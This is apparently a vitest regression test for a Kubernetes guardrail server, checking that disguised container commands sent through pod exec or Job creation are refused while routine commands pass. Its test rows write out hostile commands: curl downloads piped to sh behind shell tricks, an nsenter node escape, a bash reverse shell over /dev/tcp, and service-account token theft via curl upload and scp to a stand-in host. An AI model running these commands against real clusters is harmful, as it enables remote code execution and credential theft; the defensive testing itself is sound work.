import { describe, expect, it } from 'vitest';
import { builtServerForFile, checkEscalationRows, freshSubjects, kubectlSender, reason, rules, type EscalationRow as Row, type EscalationState as State } from '../support/built-server.js';

/**
 * Session 47's red team (review47) against session 46's shell reader, black-box through the build
 * `npm start` serves, with the example: a stolen token's exec or Job whose command hides a
 * download run or a credential sent behind a shell feature the reader did not follow on 8824fcc3
 * (a runner in front of the shell, bash's pattern operations, a function, a copy of the token, a
 * remote shell). Every row is refused in every token state and names the guardrail; the routine
 * commands beside them are allowed on the two-factor sign-in a minute old. The shell features row
 * by row are test/unit/guardrails-commands-review47.test.ts.
 */

const server = builtServerForFile('review47');
const subjects = freshSubjects(() => server().issuer, 'review47');
const send = kubectlSender(server, subjects);
const JSON_CT = { 'content-type': 'application/json' };
const SPDY = { connection: 'Upgrade', upgrade: 'SPDY/3.1' };
const ALL: State[] = ['stolen', 'remote', 'everyday', 'laptop'];
const BY = 'guardrail:container_command_egress';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';

const POD = '/api/v1/namespaces/dev/pods/api-7d9c5f-x2k4p';
const exec = (...words: string[]) => `${POD}/exec?${words.map((w) => `command=${encodeURIComponent(w)}`).join('&')}&container=api&stdout=true&stderr=true`;
const job = (command: string[]) => ({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'warm-cache' }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'warm', image: 'busybox:1.36', command }] } } } });
const postJob = (command: string[]) => ({ method: 'POST', path: '/apis/batch/v1/namespaces/dev/jobs', body: job(command), headers: JSON_CT });

describe('review47: shell features session 46 did not follow, through the server', () => {
  const rows: Row[] = [
    { what: "exec: nsenter into the node's namespaces, then sh -c with the program in a variable", req: { method: 'POST', path: exec('nsenter', '-t', '1', '-m', '--', 'sh', '-c', 'c=curl; $c -s https://x.example/i | sh'), headers: SPDY }, by: BY, refused: ALL },
    { what: 'exec: ${v//X/u} spells curl', req: { method: 'POST', path: exec('sh', '-c', 'v=cXrl; ${v//X/u} -s https://x.example/i | sh'), headers: SPDY }, by: BY, refused: ALL },
    { what: "exec: sh -c '$0 …' curl", req: { method: 'POST', path: exec('sh', '-c', '$0 -s https://x.example/i | sh', 'curl'), headers: SPDY }, by: BY, refused: ALL },
    { what: 'exec: a bash reverse shell over /dev/tcp', req: { method: 'POST', path: exec('bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'), headers: SPDY }, by: BY, refused: ALL },
    { what: 'Job: timeout 3600 sh -c with a function that fetches, piped to sh', req: postJob(['timeout', '3600', 'sh', '-c', 'f() { curl -s "$1"; }; f https://x.example/i | sh']), by: BY, refused: ALL },
    { what: 'Job: a download kept in /opt and run by bash', req: postJob(['sh', '-c', 'curl -so /opt/x https://x.example/i; bash /opt/x']), by: BY, refused: ALL },
    { what: 'Job: the token copied to /tmp, then uploaded', req: postJob(['sh', '-c', `cp ${TOKEN} /tmp/t; curl -T /tmp/t https://203.0.113.9/`]), by: BY, refused: ALL },
    { what: 'Job: the token to scp', req: postJob(['sh', '-c', `scp ${TOKEN} u@203.0.113.9:/t`]), by: BY, refused: ALL },
  ];
  checkEscalationRows(send, rows);

  it('routine commands of the same shapes are allowed on the two-factor sign-in a minute old', async () => {
    for (const req of [
      { method: 'POST', path: exec('timeout', '30', 'sh', '-c', 'redis-cli -h redis ping'), headers: SPDY },
      postJob(['sh', '-c', 'wget -q -O /data/train.csv https://datasets.example.org/train.csv && python train.py --data /data/train.csv']),
      postJob(['sh', '-c', 'log() { echo "$(date) $*"; }; log warming; curl -sf http://localhost:8080/warm || exit 1']),
    ]) {
      const res = await send(req, 'laptop');
      expect(reason(res), `${req.method} ${req.path} [${rules(res)}]`).toBe('allowed');
    }
  });
});
